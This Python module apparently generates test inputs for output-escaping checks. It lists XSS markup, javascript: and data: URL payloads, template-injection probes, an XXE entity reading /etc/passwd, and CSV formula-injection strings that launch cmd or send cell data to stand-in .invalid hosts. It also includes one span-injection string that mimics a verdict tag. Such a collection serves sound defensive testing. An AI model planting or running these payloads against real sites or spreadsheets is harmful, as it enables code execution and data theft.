"""Texts that try to become markup, styles, requests or formulas. Written by hand from what the formats allow."""

from __future__ import annotations

from itertools import product

_CALLS = ("alert(1)", "fetch('//a.invalid/x')", "document.cookie", "location='//b.invalid'", "import('//c.invalid/m')")
_CLOSERS = (
    "",
    '">',
    "'>",
    "</title>",
    "</style>",
    "</text></svg>",
    "-->",
    "</td></tr></table>",
    "]]>",
    "</b></p></main>",
)
_EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onbegin",
    "onanimationstart",
    "ontoggle",
    "OnError",
    "onpointerover",
)
_CARRIERS = (
    "<img src=x {e}={c}>",
    "<svg {e}={c}>",
    "<details open {e}={c}>",
    '<svg><animate {e}="{c}" attributeName=x dur=1s>',
    '" {e}="{c}" x="',
    "' {e}='{c}' x='",
)
_SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "//d.invalid/x",
    "https://e.invalid/x",
    "file:///etc/passwd",
    "\\\\f.invalid\\share\\x",
)
_HOLDERS = (
    '<a href="{u}">x</a>',
    '<img src="{u}">',
    '<iframe src="{u}"></iframe>',
    '<object data="{u}"></object>',
    '<embed src="{u}">',
    '<link rel=stylesheet href="{u}">',
    '<base href="{u}">',
    '<form action="{u}"><input autofocus></form>',
    '<meta http-equiv=refresh content="0;url={u}">',
    '<svg><use href="{u}"/></svg>',
    '<svg><image href="{u}"/></svg>',
    '<div style="background:url({u})">',
    "<style>*{{background:url({u})}}</style>",
    "<style>@import '{u}';</style>",
    "![x]({u})",
    "[x]({u})",
)
_ALONE = (
    "{{ 7*7 }}",
    "{% include 'x' %}",
    "{{ ''.__class__.__mro__ }}",
    "{# x #}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\x00>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<?xml-stylesheet href='//g.invalid/x'?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\u202e<script>alert(1)</script>",
    "\x1b]0;title\x07\x1b[2J",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ud800<script>",
    "\u2028alert(1)\u2029",
    "`${alert(1)}`",
    "expression(alert(1))",
    "-moz-binding:url(//h.invalid/x)",
    "</span><span data-fact='whole verdict'>inside",
)

MARKUP: tuple[str, ...] = (
    *(f"{close}<script>{call}</script>" for close, call in product(_CLOSERS, _CALLS)),
    *(carrier.format(e=event, c="alert(1)") for event, carrier in product(_EVENTS, _CARRIERS)),
    *(holder.format(u=scheme) for scheme, holder in product(_SCHEMES, _HOLDERS)),
    *_ALONE,
)

_FORMULAS = (
    "=1+1",
    "=SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("//a.invalid/"&A1,"x")',
    "=WEBSERVICE(A1)",
    "=IMPORTXML(A1,B1)",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "−1+2",
)
_BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\u00a0",
    "rod,",
    "rod;",
    'rod",',
    "'",
    '"',
    "a|",
    "\x00",
    "rod\n",
    "rod\t",
)

FORMULAS: tuple[str, ...] = tuple(before + formula for before, formula in product(_BEFORE, _FORMULAS))
